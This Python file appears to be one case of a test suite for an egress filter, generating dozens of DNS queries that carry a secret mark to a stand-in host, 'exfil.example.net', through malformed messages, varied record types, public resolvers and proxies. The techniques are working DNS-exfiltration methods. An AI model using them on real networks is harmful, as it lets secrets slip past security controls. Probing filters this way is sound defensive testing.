"""E-13: secrets in questions of DNS. The authoritative servers of the world log every question that reaches them."""
import socket

import way
import wire
from attack import SEEN, Attack

EXFIL, WILD = "exfil.example.net", "wild.example.com"
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65,
         "ANY": 255}
OTHERS = ("8.8.8.8", "9.9.9.9", "2001:4860:4860::8888")


def by_udp(data, server=way.DNS):
    family = socket.AF_INET6 if ":" in server[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(data, server)
        answer = sock.recv(4096)
    return f"rcode {answer[3] & 15}, {int.from_bytes(answer[6:8], 'big')} answers"


def by_tcp(data, server=way.DNS):
    with way.dial(server) as sock:
        sock.sendall(len(data).to_bytes(2, "big") + data)
        answer = way.receive(sock, int.from_bytes(way.receive(sock, 2), "big"))
    return f"rcode {answer[3] & 15}"


# Messages that name a host in an odd way; each leads some server to ask for it.
ODD = (
    ("two", "two questions", lambda n: wire.query(wire.question("allowed.example.com"), wire.question(n))),
    ("none", "a question that is not counted", lambda n: wire.query(wire.question(n), count=0)),
    ("pointer", "a name that points into itself",
     lambda n: wire.query(wire.labels(n)[:-1] + b"\xc0\x0c" + b"\0\1\0\1")),
    ("chaos", "class CH", lambda n: wire.query(wire.question(n, 16, 3))),
    ("any-class", "any class", lambda n: wire.query(wire.question(n, 1, 255))),
    ("notify", "opcode NOTIFY", lambda n: wire.query(wire.question(n), flags=0x2000)),
    ("update", "opcode UPDATE", lambda n: wire.query(wire.question(n), flags=0x2800)),
    ("response", "an answer instead of a question", lambda n: wire.query(wire.question(n), flags=0x8180)),
    ("truncated", "the flag TC", lambda n: wire.query(wire.question(n), flags=0x0300)),
    ("edns", "an option of EDNS with a secret", lambda n: wire.query(wire.question("allowed.example.com"), n_more=1,
                                                                    more=wire.edns(b"\xfd\xe9" + len(n).to_bytes(2, "big") + n.encode()))),
    ("rest", "bytes behind the question", lambda n: wire.query(wire.question("allowed.example.com")) + n.encode()),
    ("dot-label", "a label with dots in it", lambda n: wire.query(wire.question([n, "allowed", "example", "com"]))),
    ("nul-label", "a label with a NUL in it", lambda n: wire.query(wire.question([n + "\0", "allowed", "example", "com"]))),
    ("space-label", "a label with spaces in it", lambda n: wire.query(wire.question([n + " x", "exfil", "example", "net"]))),
    ("dnskey", "a signed question", lambda n: wire.query(wire.question(n, 43), n_more=1, more=wire.edns())),
)
# A server of the world refuses these messages itself and does not log a name.
NO_CONTROL = {key: "the world's server does not read that" for key in ("none", "pointer", "response", "edns", "rest", "two")}


def odd_name(key, mark):
    return mark if key in ("dot-label", "nul-label", "space-label", "edns", "rest") else f"{mark}.{EXFIL}"


def rows():
    for name, kind in TYPES.items():
        yield Attack(f"e13-{name}", f"a question of type {name} below a forbidden name",
                     lambda m, k=kind: by_udp(wire.query(wire.question(f"{m}.{EXFIL}", k))))
        if name in ("TXT", "NULL", "MX", "ANY", "CNAME"):
            yield Attack(f"e13-wild-{name}", f"a question of type {name} below an allowed name",
                         lambda m, k=kind: by_udp(wire.query(wire.question(f"{m}.{WILD}", k))))
    yield Attack("e13-tcp", "by TCP", lambda m: by_tcp(wire.query(wire.question(f"{m}.{EXFIL}"))))
    yield Attack("e13-libc", "by the C library", lambda m: str(socket.getaddrinfo(f"{m}.{EXFIL}", 80)[0][4]))
    yield Attack("e13-allowed-below", "below a name that is allowed by itself",
                 lambda m: by_udp(wire.query(wire.question(f"{m}.allowed.example.com"))))
    yield Attack("e13-honest", "a name below an allowed glob", lambda m: by_udp(wire.query(wire.question(f"{m}.{WILD}"))), answer=SEEN)
    yield Attack("e13-honest-tcp", "the same by TCP", lambda m: by_tcp(wire.query(wire.question(f"{m}.{WILD}"))), answer=SEEN)
    for key, text, data in ODD:
        yield Attack(f"e13-{key}", text, lambda m, d=data, k=key: by_udp(d(odd_name(k, m))), control=NO_CONTROL.get(key, "same"))
    for server in OTHERS:
        key = server.replace(":", "-").replace(".", "-")
        yield Attack(f"e13-udp-{key}", f"{server} is asked directly", lambda m, s=server: by_udp(wire.query(wire.question(f"{m}.{EXFIL}")), (s, 53)))
        yield Attack(f"e13-tcp-{key}", f"{server} is asked directly by TCP",
                     lambda m, s=server: by_tcp(wire.query(wire.question(f"{m}.{EXFIL}")), (s, 53)))


def through_proxies():
    """A proxy that looks a name up before it asks whether it is allowed."""
    for kind in ("connect", "socks"):
        yield Attack(f"e13-{kind}", f"a forbidden name by {kind}", lambda m, k=kind: way.get(k, f"{m}.{EXFIL}", 80, m))
    yield Attack("e13-absolute", "a forbidden name in absolute form", lambda m: way.absolute(f"{m}.{EXFIL}", m))


ATTACKS = [*rows(), *through_proxies()]
